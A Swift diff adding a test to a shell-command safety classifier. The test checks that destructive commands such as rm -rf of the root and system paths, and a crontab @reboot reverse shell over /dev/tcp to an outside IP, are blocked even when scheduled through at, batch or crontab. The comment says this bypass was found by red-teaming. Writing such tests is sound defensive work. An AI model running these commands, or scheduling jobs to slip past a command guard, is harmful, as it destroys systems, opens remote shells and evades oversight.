@@ -44,4 +44,19 @@ final class InnerDangerTests: XCTestCase {
             ("sh -c 'ls -l /srv'", .allow),
         ])
     }
+
+    /// A job handed to `at` or `crontab` in visible text is judged as if it ran now (found by
+    /// red-teaming); `at` with nothing feeding it reads the job from the SSH channel.
+    func testScheduledJobsKeepTheirWeight() {
+        assertVerdicts([
+            ("echo 'rm -rf /' | at now", .block(.rmRoot)),
+            ("at now + 1 minute <<< 'rm -rf /etc'", .block(.rmRecursiveSystemPath)),
+            ("printf 'rm -rf /usr\\n' | batch", .block(.rmRecursiveSystemPath)),
+            ("echo '* * * * * rm -rf /' | crontab -", .block(.rmRoot)),
+            ("crontab <<< '@reboot bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", .block(.networkDevTcp)),
+            ("at now", .block(.shellReadsChannel)), ("echo /usr/local/bin/report | at now", .confirm(.scheduleChange)),
+            ("echo '0 3 * * * /usr/local/bin/backup' | crontab -", .confirm(.scheduleChange)),
+            ("at -f job.sh now", .confirm(.scheduleChange)), ("crontab -l", .allow), ("at -l", .allow),
+        ])
+    }
 }
